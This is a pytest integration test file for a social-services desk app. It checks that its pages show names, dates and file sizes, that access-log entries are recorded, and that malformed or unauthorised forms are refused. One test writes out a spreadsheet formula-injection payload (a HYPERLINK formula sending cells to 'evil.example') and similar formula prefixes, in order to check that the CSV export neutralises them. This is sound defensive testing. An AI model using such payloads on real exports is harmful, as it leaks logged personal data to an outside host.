"""The desk's pages as a social worker reads them, from an outside tester's findings: names rather than technical ids,
plans with their dates, human file sizes, the access log's action, appointments refused in the past or for an
operator nobody has, and /metrics. The desk runs in process against real PostgreSQL (its own schema); the services
it calls are played by the test (httpx MockTransport), so each page is checked with exactly what the APIs give."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import csv
import html as markup
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import AsyncIterator, Callable
from datetime import timedelta
from typing import Any, cast
from urllib.parse import quote

import asyncpg
import httpx
import pytest
from lgnet_desk.adapters import store
from lgnet_desk.adapters.schema import MIGRATIONS
from lgnet_desk.adapters.services import Services
from lgnet_desk.domain.days import typed_day
from lgnet_desk.domain.operators import Operator, OperatorRole
from lgnet_desk.entrypoints import i18n
from lgnet_desk.entrypoints.main import create_app
from lgnet_desk.entrypoints.web import _token_key
from lgnet_desk.service_layer import login
from lgnet_desk.settings import DeskSettings
from lgnet_shared import clock, db
from lgnet_shared.testing.html_tables import table_problems
from lgnet_shared.testing.process import free_port

pytestmark = pytest.mark.integration
PORTS = {"8001": "intake", "8002": "housing", "8003": "payments"}  # where the fake services answer
# Given, not taken from the environment: a shell with `make up`'s LGNET_*_URL of another port broke every test here.
SERVICE_URLS = {f"LGNET_{name.upper()}_URL": f"http://127.0.0.1:{port}" for port, name in PORTS.items()}
Handler = Callable[[httpx.Request], httpx.Response]  # a service's answer to a request (FakeServices.handle)


class FakeServices:
    """The services' HTTP APIs as the test sets them: {(service, method, path): answer or callable}; what the desk
    asked is kept in `calls`."""

    def __init__(self) -> None:
        self.answers: dict[tuple[str, str, str], Any] = {}
        self.calls: list[tuple[str, str, str]] = []
        self.requests: list[httpx.Request] = []  # as sent (`url.raw_path`: the path's escapes kept)
        self.away: set[str] = set()  # services nothing answers for (down, or not run by the city)

    def handle(self, request: httpx.Request) -> httpx.Response:
        service = PORTS[str(request.url.port)]
        if service in self.away:
            self.calls.append((service, request.method, request.url.path))
            raise httpx.ConnectError("connection refused", request=request)
        key = (service, request.method, request.url.path)
        self.calls.append(key)
        self.requests.append(request)
        answer = self.answers.get(key)
        if answer is None:
            return httpx.Response(404, json={"status": 404, "field": "", "reason": f"no {request.url.path}"})
        if callable(answer):
            answer = answer(request)
        if isinstance(answer, httpx.Response):
            return answer
        return httpx.Response(200, json=answer)


class Desk:
    def __init__(self, client: httpx.AsyncClient, services: FakeServices, pool: Any, settings: DeskSettings) -> None:
        self.client, self.services, self.pool, self.settings = client, services, pool, settings

    async def as_operator(self, op: Operator) -> None:
        """A session of `op` (added first) on the client: the desk's own tables, as a login leaves them."""
        async with self.pool.acquire() as conn:
            sid = f"sid-{op.username}"
            if await store.operator(conn, op.username) is None:
                tokens = {s: f"lgn_{op.username}" for s in ("intake", "housing", "payments")}
                await store.add_operator(conn, op, "x", tokens, _token_key(self.settings))
                await store.new_session(
                    conn, login.session_hash(sid), op.username, "csrf-" + op.username, clock.now() + timedelta(hours=1)
                )
        self.client.cookies.set("desk_session", sid)


# Maria and Giulia were added before migration desk-7: their actors are `desk.<username>`, as the facts the tests
# answer with carry (a staff operator added since has an opaque one: test_a_staff_operators_opaque_actor_…); all four
# before migration desk-9: their codes (an appointment's operator, an outing's staff) are their usernames (one added
# since has a drawn one: test_an_operator_added_since_codes_is_sent_and_named_by_her_code)
MARIA = Operator("maria", "Maria Rossi", OperatorRole.STAFF, "torino", None, "desk.maria", "maria")
GIULIA = Operator("giulia", "Giulia Verdi", OperatorRole.STAFF, "torino", None, "desk.giulia", "giulia")
LUCA = Operator("luca", "Luca Bianchi", OperatorRole.PARTNER, "torino", "coop-aurora", code="luca")
SARA = Operator("sara", "Sara Carso", OperatorRole.PARTNER, "trieste", "coop-carso", code="sara")
RPD = Operator("rpd", "RPD Torino", OperatorRole.DPO, "torino", None)


async def tables_as_built(response: httpx.Response) -> None:
    """Every page the tests read has its tables as a browser builds them (nothing foster-parented out of a row)."""
    if response.headers.get("content-type", "").startswith("text/html"):
        await response.aread()
        problems = table_problems(response.text)
        assert not problems, (str(response.request.url), problems)


@pytest.fixture
async def desk(database_url: str, pg_schema: str) -> AsyncIterator[Desk]:
    async with desk_of(database_url, pg_schema) as d:
        yield d


@contextlib.asynccontextmanager
async def desk_of(database_url: str, pg_schema: str, **env: str) -> AsyncIterator[Desk]:
    """The desk in process with its operators' sessions, configured with `env` too (LGNET_DESK_SERVICES)."""
    configured: dict[str, Any] = {**SERVICE_URLS, **env}
    settings = DeskSettings(
        DATABASE_URL=database_url,
        LGNET_DB_SCHEMA=pg_schema,
        LGNET_MASTER_KEY=base64.b64encode(os.urandom(32)).decode(),
        LGNET_DESK_COOKIE_SECURE="false",
        **configured,
    )
    app = create_app(settings)
    services = FakeServices()
    pool = await db.create_pool(database_url, pg_schema, max_size=2)
    await db.migrate(pool, MIGRATIONS)
    app.state.pool = pool
    await app.state.http.aclose()
    app.state.http = httpx.AsyncClient(transport=httpx.MockTransport(services.handle))
    try:
        hooks = {"response": [tables_as_built]}
        async with httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app), base_url="http://desk.test", event_hooks=hooks
        ) as c:
            d = Desk(c, services, pool, settings)
            for op in (MARIA, GIULIA, LUCA, SARA, RPD):
                await d.as_operator(op)
            yield d
    finally:
        await app.state.http.aclose()
        await pool.close()


def text_of(html: str) -> str:
    """The page's text as read: tags dropped, spaces (babel's narrow and non-breaking ones too) made plain."""
    import html as markup
    import re

    text = markup.unescape(re.sub(r"<[^>]+>", " ", html))
    return re.sub(r"\s+", " ", text.replace("\xa0", " ").replace("\u202f", " "))


def a_record(today: str, earlier: str) -> dict[str, Any]:
    """What intake's GET /persons/{id}/record gives of a person with one household, one case and two plans."""
    return {
        "person": {"person_id": "p-1", "birth_date": "1985-03-14", "sex": "female", "nationality": "NG",
                   "third_country": True, "city": "torino",
                   "identity": {"given_name": "Amina", "family_name": "Okafor"}},
        "households": [{"household_id": "h-5f1c0a9e7b2d", "reference_person_id": "p-1",
                        "members": [{"person_id": "p-1", "name": "Amina Okafor", "birth_date": "1985-03-14",
                                     "sex": "female", "joined_on": earlier, "left_on": None, "reason": None}]}],
        "cases": [{"case_id": "c-8e2b7d41a9f0", "household_id": "h-5f1c0a9e7b2d", "action_area": "housing_inclusion",
                   "channel": "desk", "partner": "coop-aurora", "opened_on": earlier, "housing_need": True,
                   "closed_on": None, "outcome": None, "assessment": None,
                   "plans": [{"plan_id": "plan-1", "agreed_on": earlier, "objectives": {"employment": "open"}},
                             {"plan_id": "plan-2", "agreed_on": today,
                              "objectives": {"housing_autonomy": "in_progress"}}]}],
        "timeline": [], "consents": [], "referrals": [], "employment": [],
    }  # fmt: skip


MATCH_STATES = (
    "proposed",
    "accepted",
    "placed",
    "ended",
    "declined",
    "cancelled",
)  # housing's (a test's "none": no match)


def housing_matches(*matches: dict[str, Any]) -> Handler:
    """Housing's `GET /proposals` over `matches`, the city's: those in the state asked (default `proposed`; `any`:
    every state), of the household asked when one is (`household_id`), as housing answers."""

    def answer(request: httpx.Request) -> httpx.Response:
        asked = request.url.params
        state = asked.get("status", "proposed")
        found = [
            m
            for m in matches
            if (state == m["status"] or (state == "any" and m["status"] in MATCH_STATES))
            and asked.get("household_id", m["household_id"]) == m["household_id"]
        ]
        return httpx.Response(200, json=found)

    return answer


def housing_reads(services: FakeServices, path: str = "/proposals") -> list[dict[str, str]]:
    """What the desk asked housing's `path` (each request's query)."""
    return [dict(r.url.params) for r in services.requests if PORTS[str(r.url.port)] == "housing" and r.url.path == path]


def serve_the_cartella(services: FakeServices, today: str, earlier: str) -> None:
    services.answers |= {
        ("intake", "GET", "/persons/p-1/record"): a_record(today, earlier),
        ("intake", "GET", "/persons/p-1/notes"): [
            {"note_id": "n-1", "written_at": f"{today}T09:00:00+00:00", "written_by": "desk.maria", "text": "Colloquio"}
        ],
        ("intake", "GET", "/persons/p-1/documents"): [
            {"document_id": "d-1", "kind": "residence_permit", "filename": "permesso.pdf",
             "media_type": "application/pdf", "uploaded_at": f"{today}T09:00:00+00:00", "uploaded_by": "desk.maria",
             "size_bytes": 17},
            {"document_id": "d-2", "kind": "identity_document", "filename": "passaporto.pdf",
             "media_type": "application/pdf", "uploaded_at": f"{today}T09:00:00+00:00", "uploaded_by": "coop-aurora",
             "size_bytes": 2_621_440},
            {"document_id": "d-3", "kind": "other", "filename": "contratto.png", "media_type": "image/png",
             "uploaded_at": f"{today}T09:00:00+00:00", "uploaded_by": "desk.giulia", "size_bytes": 1536},
        ],
        ("payments", "GET", "/contribution-requests"): [],
        ("housing", "GET", "/proposals"): housing_matches(
            {"match_id": "m-1", "household_id": "h-5f1c0a9e7b2d", "case_id": "c-8e2b7d41a9f0",
             "opportunity_id": "o-3b9d", "status": "proposed", "proposed_on": today},
            # another household's (the city's matches): not the cartella's
            {"match_id": "m-9", "household_id": "h-0d3e8a1f6c27", "case_id": "c-0d3e8a1f6c27",
             "opportunity_id": "o-7a1e", "status": "accepted", "proposed_on": earlier},
        ),
        ("housing", "GET", "/opportunities/o-3b9d"): {
            "opportunity_id": "o-3b9d", "partner": "coop-aurora", "kind": "solidarity_cohousing", "capacity": 3,
            "bedrooms": 2, "area": "san_salvario", "status": "open"},
    }  # fmt: skip


async def test_the_cartella_names_the_household_case_housing_and_operators_instead_of_their_ids(desk: Desk) -> None:
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)
    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/p-1")
    assert page.status_code == 200, page.text
    text = text_of(page.text)
    # the household by its reference person, the case by its area and opening date; the ids kept, secondary: small,
    # and out of the table's caption and the links' names a screen reader says (an outside tester read "Nucleo di
    # Amina Okafor 01a24e70-585a-…" and "Percorso abitativo 01a24e70-5887-…")
    assert "Nucleo di Amina Okafor" in text, text
    assert '<caption id="caption-h-5f1c0a9e7b2d">Nucleo di Amina Okafor</caption>' in page.text, page.text
    assert '<small class="id">h-5f1c0a9e7b2d</small>' in page.text
    assert '<span class="sr-only">: Inclusione abitativa, coop-aurora, aperta il' in page.text, page.text
    headings = re.findall(r"<(?:h[1-3]|caption)[^>]*>(.*?)</(?:h[1-3]|caption)>", page.text, re.S)
    assert headings and not [h for h in headings if 'class="id"' in h], headings  # no id in a heading
    assert "Pratica: Inclusione abitativa, aperta il" in text, text
    assert '<small class="id">c-8e2b7d41a9f0</small>' in page.text
    # the housing proposal by what housing says of the opportunity
    assert "Coabitazione solidale" in text and "san_salvario" in text, text
    assert "Cittadinanza Nigeria (paese terzo)" in text, text  # the country's name, not its ISO code
    # operators by their display names (a partner's actor stays the partner)
    assert "Maria Rossi" in text and "Giulia Verdi" in text and "desk.maria" not in text, text


async def test_the_cartella_asks_housing_for_its_households_matches_only(desk: Desk) -> None:
    """From an outside test: opening one person's cartella made housing keep, in its read log, 72 reads of 43 other
    households (the desk read the whole city's matches in each state, then kept the household's), and the DPO's
    access log said Maria had looked at each. The cartella asks housing for its household's matches alone."""
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)
    for op in (MARIA, LUCA):
        desk.services.requests.clear()
        await desk.as_operator(op)
        page = await desk.client.get("/persons/p-1")
        assert page.status_code == 200, page.text
        assert "Coabitazione solidale" in text_of(page.text)  # its proposal, shown as before
        asked = housing_reads(desk.services)
        assert asked, desk.services.calls
        assert all(q.get("household_id") == "h-5f1c0a9e7b2d" for q in asked), asked


async def test_the_cartella_asks_housing_once_per_household_for_its_matches_in_every_state(desk: Desk) -> None:
    """The cartella asked housing six times per household (`GET /proposals?household_id=…&status=…`, one per match
    state). Now once (`status=any`), for the household alone, showing the matches of every state as before, and the
    desk's access log keeps what it kept before (the person's and the members' views, nothing of housing's)."""
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)
    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/p-1")
    assert page.status_code == 200, page.text
    assert "Coabitazione solidale" in text_of(page.text)  # its proposal, shown as before
    assert housing_reads(desk.services) == [{"household_id": "h-5f1c0a9e7b2d", "status": "any"}], desk.services.calls
    async with desk.pool.acquire() as conn:
        logged = await conn.fetch("select person_id, action, outcome from access_log order by entry_id")
    assert [tuple(e) for e in logged] == [("p-1", "cartella", "shown")], logged


async def test_a_staff_operators_opaque_actor_is_named_and_is_hers_for_the_four_eyes_rule(desk: Desk) -> None:
    """A staff operator added since migration desk-7 acts on the services as an opaque actor the desk drew for her
    (`desk.op-…`), one added before as `desk.<username>`: the pages name both by their display names, and the
    approvals know her own requests by the actor stored with her (payments' four-eyes rule: two staff, two actors)."""
    nora = Operator("nora", "Nora Galli", OperatorRole.STAFF, "torino", None, "desk.op-9c03e1d27b4a", "op-9c03e1d27b4b")
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)
    desk.services.answers[("intake", "GET", "/persons/p-1/notes")] = [
        {"note_id": "n-1", "written_at": f"{today}T09:00:00+00:00", "written_by": nora.actor, "text": "Colloquio"}
    ]
    await desk.as_operator(nora)
    text = text_of((await desk.client.get("/persons/p-1")).text)
    assert "Nora Galli" in text and "Giulia Verdi" in text, text  # the note's writer, the document's uploader
    assert "desk.op-9c03e1d27b4a" not in text and "desk.giulia" not in text, text
    request = {"request_id": "r-1", "case_id": "c-8e2b7d41a9f0", "kind": "rent", "amount_cents": 12000,
               "requested_by": nora.actor, "status": "requested"}  # fmt: skip
    desk.services.answers |= {
        ("payments", "GET", "/contribution-requests"): [request],
        ("intake", "GET", "/cases/c-8e2b7d41a9f0"): A_HOUSING_CASE,
    }
    own = "Ha chiesto Lei questo contributo: deve approvarlo un altro operatore."
    page = text_of((await desk.client.get("/approvals")).text)
    assert own in page and "Nora Galli" in page, page
    await desk.as_operator(GIULIA)  # another person: her approval is offered
    assert own not in text_of((await desk.client.get("/approvals")).text)


async def test_the_household_members_a_cartella_shows_are_in_the_access_log(desk: Desk) -> None:
    """Amina's cartella shows her son's and her mother's names, birth dates and vulnerabilities (a psychiatric
    condition: special-category data), and only Amina's view was logged: the mother's subject-access printout said
    nobody had looked at her data. Each member whose data the page shows is logged too, as a household member of
    the cartella opened (its id beside it); a member intake hides (no name) is not."""
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)
    record = a_record(today, earlier)
    member = {"sex": "female", "joined_on": earlier, "left_on": None, "reason": None}
    record["households"][0]["members"] += [
        member | {"person_id": "p-2", "name": "Halima Okafor", "birth_date": "1950-01-02"},
        member | {"person_id": "p-3", "name": None, "birth_date": None},
    ]
    record["cases"][0]["assessment"] = {"assessed_on": earlier, "vulnerabilities": ["psychiatric_condition"],
                                        "housing_situation": "precarious", "monthly_income_cents": 0,
                                        "employment_status": "unemployed",
                                        "vulnerabilities_by_person": {"p-2": ["psychiatric_condition"]}}  # fmt: skip
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = record
    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/p-1?purpose=case_review")
    assert page.status_code == 200 and "Halima Okafor" in page.text, page.text
    async with desk.pool.acquire() as conn:
        rows = await conn.fetch("select person_id, purpose, action, outcome from access_log order by person_id")
    assert [tuple(r) for r in rows] == [
        ("p-1", "case_review", "cartella", "shown"),
        ("p-2", "case_review", "member of p-1", "shown"),
    ], rows
    await desk.as_operator(RPD)
    text = text_of((await desk.client.get("/access-log/subject/p-2")).text)
    assert "Maria Rossi" in text and "La cartella sociale di un componente del suo nucleo" in text, text


async def test_each_plan_of_a_case_shows_its_date(desk: Desk) -> None:
    today, earlier = clock.today(), clock.today() - timedelta(days=40)
    serve_the_cartella(desk.services, today.isoformat(), earlier.isoformat())
    await desk.as_operator(MARIA)
    text = text_of((await desk.client.get("/persons/p-1")).text)
    from lgnet_desk.entrypoints import i18n

    for agreed in (earlier, today):
        assert f"Progetto concordato il {i18n.day(agreed, 'it')}" in text, text
    english = text_of((await desk.client.get("/persons/p-1?lang=en")).text)
    assert f"Plan agreed on {i18n.day(earlier, 'en')}" in english, english


async def test_document_sizes_are_human_bytes_kilobytes_or_megabytes(desk: Desk) -> None:
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    await desk.as_operator(MARIA)
    text = text_of((await desk.client.get("/persons/p-1")).text)
    assert "17 byte" in text and "1,5 kB" in text and "2,5 MB" in text, text
    assert "0.0 kB" not in text
    english = text_of((await desk.client.get("/persons/p-1?lang=en")).text)
    assert "17 byte" in english and "1.5 kB" in english and "2.5 MB" in english, english


async def test_the_access_log_shows_what_was_looked_at_like_its_csv(desk: Desk) -> None:
    async with desk.pool.acquire() as conn:
        await store.log_access(conn, MARIA, "p-1", "case_work", "cartella", "shown")
        await store.log_access(conn, MARIA, "p-1", "case_work", "document d-1", "shown")
        await store.log_access(conn, MARIA, "p-1", "case_work", "privacy notice", "shown")
    await desk.as_operator(RPD)
    page = await desk.client.get("/access-log?person_id=p-1")
    assert page.status_code == 200
    assert ">Azione</th>" in page.text
    text = text_of(page.text)
    assert (
        "Cartella sociale" in text
        and "Documento d-1" in text
        and "Informativa sul trattamento dei dati personali" in text
    ), text
    assert "Maria Rossi maria" in text  # the operator by name, the account beside it (the DPO may need it)
    english = text_of((await desk.client.get("/access-log?person_id=p-1&lang=en")).text)
    assert "Social record" in english and "Document d-1" in english and "Privacy notice" in english, english
    export = await desk.client.get("/access-log.csv?person_id=p-1&lang=it")  # the page was last read in English
    assert "Documento d-1" in export.text  # the export says what the page says


async def test_the_access_log_export_reads_in_the_dpos_language(desk: Desk) -> None:
    """The DPO's CSV export (what she files or hands to the Garante) read `at,operator,person_id,purpose,action,
    outcome` and `maria,…,case_work,cartella,shown`: English column names and codes, the operator by account only,
    where her page says "Quando, Operatore, … gestione della pratica, Cartella sociale, mostrato"."""
    async with desk.pool.acquire() as conn:
        await store.log_access(conn, MARIA, "p-1", "case_work", "cartella", "shown")
        await store.log_access(conn, LUCA, "p-1", "case_review", "search", "denied")
    await desk.as_operator(RPD)
    rows = list(csv.reader(io.StringIO((await desk.client.get("/access-log.csv?person_id=p-1")).text)))
    assert rows[0] == ["Quando", "Operatore", "Account", "Persona", "Finalità", "Azione", "Esito", "Fonte"], rows[0]
    assert rows[2][1:] == [
        "Maria Rossi",
        "maria",
        "p-1",
        "gestione della pratica",
        "Cartella sociale",
        "mostrato",
        "Sportello",
    ]
    assert rows[1][1:] == [
        "Luca Bianchi",
        "luca",
        "p-1",
        "revisione della pratica",
        "Risultati della ricerca",
        "negato",
        "Sportello",
    ]
    assert rows[2][0].startswith(clock.today().isoformat()[:4])  # ISO time, sortable
    english = list(csv.reader(io.StringIO((await desk.client.get("/access-log.csv?lang=en")).text)))
    assert english[0] == ["When", "Operator", "Account", "Person", "Purpose", "Action", "Outcome", "Source"], english[0]


async def test_the_access_log_csv_never_holds_a_formula_a_partner_wrote(desk: Desk) -> None:
    """A person's id is the partner's choice (intake takes 1-64 characters): a Torino partner registered
    `=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&B3,"Apri")`, a cooperative's operator tried its cartella,
    and the DPO's export held the formula as a cell, which a spreadsheet runs on opening (a link sending the log's
    cells away; `=cmd|…` on older Excel). Every text cell that a spreadsheet would read as a formula is exported as
    text (OWASP's "CSV injection": a leading `'`); the page shows the id as it is."""
    formula = '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&B3,"Apri")'
    aurora = Operator("aurora", "Operatrice Aurora", OperatorRole.PARTNER, "torino", "coop-aurora", code="aurora")
    refusal = {"status": 403, "field": "person_id", "reason": "not a person of your cases"}
    ids = (formula, "+1+1", "-2+3", "@SUM(1)", "\tx", "p-1")
    for pid in ids:
        desk.services.answers[("intake", "GET", f"/persons/{pid}/record")] = httpx.Response(403, json=refusal)
    await desk.as_operator(aurora)
    for pid in ids:
        tried = await desk.client.get("/persons/" + quote(pid, safe=""))
        assert tried.status_code == 403, tried.text
    await desk.as_operator(RPD)
    exported = await desk.client.get("/access-log.csv")
    header, *rows = list(csv.reader(io.StringIO(exported.text)))
    cells = [row[header.index("Persona")] for row in rows]
    assert sorted(cells) == sorted(["'" + formula, "'+1+1", "'-2+3", "'@SUM(1)", "'\tx", "p-1"]), cells
    page = await desk.client.get("/access-log")
    assert formula in text_of(page.text)  # the page itself shows the id as stored


async def test_a_form_sent_on_a_person_the_operator_may_not_see_is_refused_not_a_server_error(desk: Desk) -> None:
    """A cooperative's operator posted the cartella's forms with another cooperative's person in the address (a note, a
    consent, a contribution with that cooperative's case in the hidden field): intake and payments refused (403), the
    desk then drew the cartella again to show the refusal at its field, intake refused that too, and the desk answered
    500 (the running desk reset the connection). The refusal is the desk's "access denied" page (403), the attempt in
    the access log, as when the cartella is opened."""
    refusal = {"status": 403, "field": "person_id", "reason": "the person's case is assigned to another partner"}
    case_refusal = {"status": 403, "field": "case_id", "reason": "the case is not assigned to this partner"}
    desk.services.answers |= {
        ("intake", "GET", "/persons/p-borgo/record"): httpx.Response(403, json=refusal),
        ("intake", "POST", "/persons/p-borgo/notes"): httpx.Response(403, json=refusal),
        ("intake", "POST", "/consents"): httpx.Response(403, json=refusal),
        ("payments", "POST", "/contribution-requests"): httpx.Response(403, json=case_refusal),
    }
    await desk.as_operator(LUCA)
    for form, data in (
        ("notes", {"text": "x"}),
        ("consents", {"purpose": "partner_sharing", "decision": "granted", "recorded_on": "2026-12-01"}),
        ("contributions", {"case_id": "c-borgo", "kind": "deposit", "amount": "100"}),
    ):
        sent = await desk.client.post(f"/persons/p-borgo/{form}", data={"csrf": "csrf-luca", **data})
        assert sent.status_code == 403, (form, sent.status_code, sent.text)
        assert "Non può vedere i dati di questa persona" in text_of(sent.text), text_of(sent.text)
    async with desk.pool.acquire() as conn:
        logged = await conn.fetch("select outcome from access_log where person_id = 'p-borgo' and operator = 'luca'")
    assert [r["outcome"] for r in logged] == ["denied"] * 3


async def test_a_form_with_its_hidden_id_taken_out_is_refused_not_a_server_error(desk: Desk) -> None:
    """The link of a street contact to a person, posted with its hidden `outing_id` taken out (and no day): intake
    refused the link (422), the desk drew the outing's page again for `/outings/`, which intake's router answers with
    a redirect to its list of outings (307, as FastAPI redirects a trailing slash): the desk took the redirect for the
    outing, and the template failed on it ('None' has no attribute 'start_time'): 500, for staff and cooperatives
    alike. A service's redirect is not an answer the desk asked for: it is refused as not found (404)."""
    desk.services.answers |= {
        ("intake", "POST", "/street-contacts/ct-x/link"): httpx.Response(
            422, json={"status": 422, "field": "linked_on", "reason": "Field required"}
        ),
        ("intake", "GET", "/outings/"): httpx.Response(307, headers={"location": "http://127.0.0.1:8001/outings"}),
    }
    await desk.as_operator(LUCA)
    sent = await desk.client.post("/outreach/contacts/ct-x/link", data={"csrf": "csrf-luca", "person_id": "p-1"})
    assert sent.status_code == 404, (sent.status_code, sent.text)
    assert "Non trovato Il servizio ha rifiutato: il servizio non ha questo indirizzo." in text_of(sent.text)


async def test_a_nul_character_in_an_address_or_a_form_is_refused_not_a_server_error(desk: Desk) -> None:
    """The services refuse text PostgreSQL cannot store (NUL) with a 422; the desk wrote it into its own tables and
    answered 500: a cartella's address `/persons/a%00b` (the access log's entry), the DPO's filter
    `/access-log?person_id=a%00b`, a login's user name, an appointment's operator. Each is the desk's page saying
    the request holds a character that cannot be recorded (422), and nothing of it is written."""
    desk.services.answers[("intake", "GET", "/persons/a\x00b/record")] = httpx.Response(
        422, json={"status": 422, "field": "path.person_id", "reason": "must not contain the NUL character"}
    )
    said = "L'indirizzo o il modulo contiene un carattere che non si può registrare."
    await desk.as_operator(MARIA)
    for sent in (
        await desk.client.get("/persons/a%00b"),
        await desk.client.get("/persons/p-1/documents/d%001"),
        await desk.client.post("/agenda", data={"csrf": "csrf-maria", "operator": "a\x00b", "day": "2030-01-07"}),
    ):
        assert sent.status_code == 422 and said in text_of(sent.text), (sent.status_code, sent.text)
    await desk.as_operator(RPD)
    for path in ("/access-log?person_id=a%00b", "/access-log.csv?person_id=a%00b", "/access-log/subject/a%00b"):
        sent = await desk.client.get(path)
        assert sent.status_code == 422 and said in text_of(sent.text), (path, sent.status_code, sent.text)
    desk.client.cookies.clear()
    form = await desk.client.get("/login")
    token = re.search(r'name="csrf" value="([^"]+)"', form.text)
    assert token is not None
    sent = await desk.client.post("/login", data={"csrf": token.group(1), "username": "a\x00b", "password": "x"})
    assert sent.status_code == 422 and said in text_of(sent.text), (sent.status_code, sent.text)
    async with desk.pool.acquire() as conn:
        assert await conn.fetchval("select count(*) from access_log where person_id like 'a%'") == 0


def agenda_services(services: FakeServices) -> list[dict[str, Any]]:
    booked: list[dict[str, Any]] = []

    def book(request: httpx.Request) -> httpx.Response:
        import json

        booked.append(json.loads(request.content))
        return httpx.Response(201, json=booked[-1])

    services.answers |= {
        ("intake", "GET", "/appointments"): [],
        ("intake", "GET", "/mobile-units"): [],
        ("intake", "POST", "/appointments"): book,
    }
    return booked


def marias_appointment(day: str) -> dict[str, Any]:
    """Intake's `apt-1`, booked by Maria with Amina on `day` (ISO) at 09:00 for half an hour."""
    return {"appointment_id": "apt-1", "agenda": "desk", "operator": "maria", "unit_id": None, "person_id": "p-1",
            "street_id": None, "purpose": "plan_review", "starts_at": f"{day}T09:00:00+00:00",
            "ends_at": f"{day}T09:30:00+00:00", "status": "booked", "outcome": None,
            "booked_by": "desk.maria"}  # fmt: skip


async def test_an_appointment_before_today_is_refused_at_its_field(desk: Desk) -> None:
    booked = agenda_services(desk.services)
    await desk.as_operator(MARIA)
    yesterday = (clock.today() - timedelta(days=1)).isoformat()
    form = {"csrf": "csrf-maria", "day": yesterday, "time": "10:00", "minutes": "30", "party": "p-1",
            "purpose": "plan_review", "operator": "maria"}  # fmt: skip
    r = await desk.client.post("/agenda", data=form)
    assert r.status_code == 422, r.text
    assert 'id="time-error"' in r.text and "giorno è passato" in text_of(r.text), text_of(r.text)
    assert booked == []
    tomorrow = (clock.today() + timedelta(days=1)).isoformat()
    r = await desk.client.post("/agenda", data=form | {"day": tomorrow})
    assert r.status_code == 303, r.text
    assert [b["operator"] for b in booked] == ["maria"]
    # moving an appointment to a past day is refused too
    desk.services.answers[("intake", "POST", "/appointments/apt-1/move")] = {}
    desk.services.answers[("intake", "GET", "/appointments")] = [marias_appointment(tomorrow)]
    move = {"csrf": "csrf-maria", "day": tomorrow, "new_day": yesterday, "new_time": "10:00", "minutes": "30"}
    r = await desk.client.post("/agenda/apt-1/move", data=move)
    assert r.status_code == 422 and "giorno è passato" in text_of(r.text)
    assert ("intake", "POST", "/appointments/apt-1/move") not in desk.services.calls


async def test_intakes_refusal_of_a_time_already_past_is_said_at_the_time_in_italian_and_english(desk: Desk) -> None:
    """Intake refuses a booking (or a move) that starts before the current minute, at `starts_at`: earlier today
    passes the desk's own check of the day. The refusal is said at the form's time, in the page's language."""
    agenda_services(desk.services)
    past = {"status": 422, "field": "starts_at", "reason": "is in the past: an appointment is booked from now on"}
    desk.services.answers[("intake", "POST", "/appointments")] = httpx.Response(422, json=past)
    await desk.as_operator(MARIA)
    today = clock.today().isoformat()
    form = {"csrf": "csrf-maria", "day": today, "time": "00:00", "minutes": "30", "party": "p-1",
            "purpose": "plan_review", "operator": "maria"}  # fmt: skip
    r = await desk.client.post("/agenda?lang=it", data=form)
    assert r.status_code == 422, r.text
    assert 'id="time-error"' in r.text, r.text
    said = text_of(r.text)
    assert "l'orario è già passato: un appuntamento si fissa da adesso in poi" in said, said
    r = await desk.client.post("/agenda?lang=en", data=form)
    assert r.status_code == 422 and 'id="time-error"' in r.text, r.text
    assert "is in the past: an appointment is booked from now on" in text_of(r.text), text_of(r.text)
    # a move earlier today: intake's refusal at the appointment's row
    tomorrow = (clock.today() + timedelta(days=1)).isoformat()
    desk.services.answers[("intake", "GET", "/appointments")] = [marias_appointment(tomorrow)]
    desk.services.answers[("intake", "POST", "/appointments/apt-1/move")] = httpx.Response(422, json=past)
    move = {"csrf": "csrf-maria", "day": tomorrow, "new_day": today, "new_time": "00:00", "minutes": "30"}
    r = await desk.client.post("/agenda/apt-1/move?lang=it", data=move)
    assert r.status_code == 422 and "l'orario è già passato" in text_of(r.text), text_of(r.text)


async def test_an_appointment_booked_moved_or_cancelled_is_confirmed_on_the_agenda(desk: Desk) -> None:
    """ "Fissa" reloaded the agenda with no word, where the cartella's forms say what was recorded (`role=status`):
    each change of the agenda is said at its top; the agenda opened afresh says nothing."""
    agenda_services(desk.services)
    tomorrow = (clock.today() + timedelta(days=1)).isoformat()
    desk.services.answers[("intake", "GET", "/appointments")] = [marias_appointment(tomorrow)]
    for action in ("move", "cancel", "outcome"):
        desk.services.answers[("intake", "POST", f"/appointments/apt-1/{action}")] = {}
    await desk.as_operator(MARIA)
    form = {"csrf": "csrf-maria", "day": tomorrow, "time": "10:00", "minutes": "30", "party": "p-1",
            "purpose": "plan_review", "operator": "maria"}  # fmt: skip
    for path, sent, said in [
        ("/agenda", form, "Appuntamento fissato."),
        ("/agenda/apt-1/move", {"csrf": "csrf-maria", "day": tomorrow, "new_day": tomorrow, "new_time": "11:00"},
         "Appuntamento spostato."),
        ("/agenda/apt-1/cancel", {"csrf": "csrf-maria", "day": tomorrow, "reason": "person_request"},
         "Appuntamento annullato."),
    ]:  # fmt: skip
        r = await desk.client.post(f"{path}?lang=it", data=sent, follow_redirects=True)
        assert r.status_code == 200 and f'<p class="notice" role="status">{said}</p>' in r.text, (path, r.text)
    assert 'role="status"' not in (await desk.client.get(f"/agenda?day={tomorrow}")).text


async def test_an_appointment_for_an_operator_nobody_has_or_of_another_city_or_cooperative_is_refused(
    desk: Desk,
